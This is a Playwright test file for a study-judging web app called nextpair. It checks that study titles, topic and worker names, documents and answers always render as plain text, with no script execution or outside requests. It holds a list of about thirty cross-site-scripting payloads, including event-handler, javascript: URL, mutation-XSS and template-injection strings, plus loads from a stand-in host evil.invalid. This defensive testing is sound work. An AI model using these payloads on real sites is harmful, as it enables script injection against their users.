"""What people wrote is shown as text: no payload runs, loads or navigates, wherever it stands."""

import json
import re
from contextlib import suppress
from urllib.parse import quote

from browsers import Site, all_has_happened
from playwright.sync_api import Page, expect

from nextpair.app.client import Refused
from nextpair.app.schemas.topics import DocumentIn, TopicIn, UnderstandingRule

RUN = "window.ran=1"
EVIL = "http://evil.invalid/"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title></textarea></style></noscript><script>{RUN}</script>",
    f"<script src={EVIL}x.js></script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src={EVIL}x.png onerror="{RUN}">',
    f"<svg onload={RUN}><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f'<a href="javascript:{RUN}">here</a>',
    f'<a href="java\tscript:{RUN}">here</a>',
    f'<a href="&#106;avascript:{RUN}">here</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">here</a>',
    '<a href="/v1/studies">here</a>',
    f"<iframe src=\"javascript:parent.{RUN}\" srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={EVIL}x></object><embed src={EVIL}x>",
    f"<style>@import '{EVIL}x.css'; * {{ display: none }}</style>",
    f"<link rel=stylesheet href={EVIL}x.css><base href={EVIL}>",
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f"<form action={EVIL}><input autofocus onfocus={RUN}><button>Submit</button></form>",
    f"<details open ontoggle={RUN}>more</details>",
    f"<body onload={RUN}><marquee onstart={RUN}>m</marquee>",
    f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    f'<div style="position:fixed;inset:0;background:url({EVIL}x)" onclick={RUN}>cover</div>',
    f"<template><script>{RUN}</script></template>",
    f"<p id=answer class=pane name=question>clobber</p><img name=getElementById src={EVIL}y>",
    "${" + RUN + "} {{" + RUN + "}} `${" + RUN + "}` <%= " + RUN + " %>",
    f"javascript:{RUN}",
    f"<!--><script>{RUN}</script>-->",
    f"<xmp><script>{RUN}</script></xmp><plaintext><script>{RUN}</script>",
)
NAME = f"javascript:{RUN}"
NAMES = (NAME, *(one.replace("/", "\\") for one in PAYLOADS if one.isprintable() and one != NAME))
"""Payloads as far as they are fit to be the name of a worker or a topic."""
ALL = "\n".join(PAYLOADS)
WATCH = """window.violations = [];
document.addEventListener('securitypolicyviolation', event => {
    window.violations.push(`${event.violatedDirective} ${event.blockedURI}`);
});"""


def watched(site: Site, study: str) -> tuple[Page, list[str]]:
    """Open the judging page, noting every dialog and every call to elsewhere."""
    page, noted = watchful(site)
    page.goto(site.address + site.url(study, NAME))
    return page, noted


def watchful(site: Site) -> tuple[Page, list[str]]:
    """Make a page that notes every dialog and every call to elsewhere."""
    page = site.page()
    page.add_init_script(WATCH)
    noted: list[str] = []
    page.on("dialog", lambda dialog: noted.append(dialog.message))
    page.on("pageerror", lambda error: noted.append(str(error)))
    page.on("popup", lambda popup: noted.append("popup"))

    def note(url: str) -> None:
        if not url.startswith((site.address, "data:", "about:")):
            noted.append(url)

    page.on("request", lambda request: note(request.url))
    return page, noted


def look_everywhere(page: Page) -> None:
    """Scroll, hover, focus and click through both documents."""
    page.locator("summary").first.click()
    for body in page.locator(".body").all():
        body.evaluate("body => { body.scrollTop = body.scrollHeight; }")
        for link in body.locator("a, summary").all():
            link.evaluate("one => one.click()")
        body.hover()
        body.focus()
    page.keyboard.press("Tab")
    all_has_happened(page)


def documents() -> list[DocumentIn]:
    name = "".join(one if one.isprintable() else " " for one in ALL[:400])
    return [
        DocumentIn(id=name, title=ALL[:1000], text=ALL),
        DocumentIn(id="html", title=PAYLOADS[4], html=f"<p>x</p>{ALL}", url=f"javascript:{RUN}"),
    ]


def test_no_payload_runs_wherever_it_is_written(site: Site) -> None:
    site.client.create_study(
        "hostile",
        title=ALL[:1000],
        instructions=ALL,
        selector="merge-tie-random",
    )
    rule = UnderstandingRule(
        question=ALL[:1000], choices=[PAYLOADS[0], PAYLOADS[4]], right=PAYLOADS[4]
    )
    topic = TopicIn(
        id="t",
        title=ALL[:1000],
        description=ALL,
        narrative=ALL,
        understanding=rule,
        documents=documents(),
    )
    site.client.add_topic("hostile", topic)
    page, noted = watched(site, "hostile")
    expect(page.locator("#message-body")).to_contain_text("<script>")
    page.get_by_role("button", name="Begin").click()
    page.get_by_role("button", name=PAYLOADS[4]).click()
    page.locator("#question:not([hidden])").wait_for()
    expect(page.locator("#topic-title")).to_contain_text("<script>")
    look_everywhere(page)
    assert page.evaluate("window.ran") is None
    assert page.evaluate("window.violations") == []
    assert noted == []
    page.keyboard.press("1")
    page.keyboard.press("Enter")
    expect(page.locator("#message-title")).to_have_text("All done")


def test_no_payload_runs_on_the_pages_of_the_owner(site: Site) -> None:
    name = documents()[0].id
    extra = [DocumentIn(id=f"{n} {PAYLOADS[n]}"[:400], title=PAYLOADS[n]) for n in (4, 6)]
    site.client.create_study(
        "owned", title=ALL[:1000], instructions=ALL, selector="elo-schedule", price=1
    )
    topic = TopicIn(id=NAME, title=ALL[:1000], description=ALL, documents=[*documents(), *extra])
    site.client.add_topic("owned", topic)
    while asked := site.client.next("owned", NAME).assignments:
        site.client.judge(asked[0], "left")
    page, noted = watchful(site)
    site.sign_in("/studies", page)
    page.get_by_role("link", name=re.compile("<script>")).first.wait_for()
    expect(page.locator(".card dl").first).to_contain_text("answers")
    page.goto(f"{site.address}/studies/owned")
    page.get_by_role("button", name=f"Retract {NAME}").click()
    page.get_by_text("would no longer count").wait_for()
    page.get_by_role("button", name="Cancel").click()
    page.goto(f"{site.address}/studies/owned/topics/{quote(NAME, safe='')}")
    page.locator(".matrix").wait_for()
    page.locator("summary").first.click()
    for shown in (name, "html"):
        page.locator(".ratings .chip", has_text=shown[:60]).first.click()
        expect(page.get_by_role("dialog")).to_be_visible()
        page.keyboard.press("Escape")
    page.goto(f"{site.address}/studies/owned/report")
    expect(page.locator(".report")).to_contain_text("<script>")
    all_has_happened(page)
    assert page.evaluate("window.ran") is None
    assert page.evaluate("window.violations") == []
    assert noted == []


def test_payloads_as_levels_reasons_and_answers_of_others_are_text(site: Site) -> None:
    levels = [PAYLOADS[0], PAYLOADS[4][:100]]
    site.client.create_study("levels", design="review", design_options={"levels": levels})
    topic = TopicIn(id="t", title="t", documents=[DocumentIn(id="d", text=ALL)])
    site.client.add_topic("levels", topic)
    (asked,) = site.client.next("levels", "eve").assignments
    site.client.judge(asked, {"grade": levels[0], "excerpt": PAYLOADS[0]})
    page, noted = watched(site, "levels")
    expect(page.locator("#reviewed")).to_contain_text(PAYLOADS[0])
    expect(page.locator(".option").first).to_contain_text(levels[0])
    assert page.evaluate("window.ran") is None
    assert page.evaluate("window.violations") == []
    assert noted == []


def test_payloads_as_names_of_studies_topics_and_workers_are_text(site: Site) -> None:
    study = NAMES[4]
    site.client.create_study(study, selector="elo-schedule")
    for name in NAMES:
        with suppress(Refused):
            topic = TopicIn(id=name[:200], documents=documents())
            site.client.add_topic(study, topic)
            asked = site.client.next(study, name[:200], topic=name[:200]).assignments
            site.client.judge(asked[0], "left")
    shown = len([*site.client.workers(study)])
    assert shown > len(NAMES) // 2
    page, noted = watchful(site)
    site.sign_in(f"/studies/{quote(study, safe='')}", page)
    # The second time, with how reliable they are, the list is drawn anew.
    expect(page.locator("meter").first).to_be_visible()
    for more in page.get_by_role("button", name="Show more").all():
        more.click()
    page.get_by_role("button", name=f"Retract {NAME}").wait_for()
    page.get_by_role("button", name=f"New link for {NAME}").click()
    page.get_by_role("button", name="Make a link").click()
    page.get_by_label("The link", exact=True).wait_for()
    page.goto(f"{site.address}/judge/{quote(study, safe='')}/enter?worker=x")
    page.goto(f"{site.address}/judge/{quote(NAMES[0] + NAMES[4], safe='')}/enter")
    expect(page.locator("main")).to_contain_text("javascript:window.ran=1<script")
    assert page.evaluate("window.ran") is None
    assert page.evaluate("window.violations") == []
    assert noted == []


def test_html_keeps_what_only_shows_text(site: Site) -> None:
    site.client.create_study("markup", design="graded")
    html = (
        "<h1>Head</h1><p>One <b>bold</b> <a href='https://example.org/x'>link</a></p>"
        "<ul><li>item</li></ul><table><tr><td colspan=2>cell</td></tr></table>"
        "<img src='https://example.org/x.png' alt='picture'>"
    )
    topic = TopicIn(id="t", title="bold", documents=[DocumentIn(id="d", html=html)])
    site.client.add_topic("markup", topic)
    page, noted = watched(site, "markup")
    body = page.locator(".body")
    expect(body.locator("li")).to_have_text("item")
    expect(body.locator("mark")).to_have_text("bold")
    link = body.locator("a")
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert link.get_attribute("target") == "_blank"
    assert body.locator("td").get_attribute("colspan") == "2"
    # Headings of a document come under those of the page, and images only if they are allowed.
    assert body.locator("h1").count() == 0
    assert body.locator("img").count() == 0
    assert noted == []


def test_a_long_document_is_shown_as_far_as_it_is_scrolled_to(site: Site) -> None:
    site.client.create_study("long", design="graded")
    text = "\n".join(f"line {n} of many" for n in range(20_000))
    site.client.add_topic(
        "long", TopicIn(id="t", title="line", documents=[DocumentIn(id="d", text=text)])
    )
    page, _ = watched(site, "long")
    body = page.locator(".body")
    expect(body).to_contain_text("line 0 of many")
    begun = body.locator(".chunk").count()
    assert begun < 10
    body.evaluate("body => { body.scrollTop = body.scrollHeight; }")
    expect(body.locator(".chunk").nth(begun)).to_be_attached()
    shown = body.evaluate("body => body.textContent")
    assert text.startswith(shown.rstrip("\n")[:50_000])
    assert json.dumps(shown).count("line") >= 100
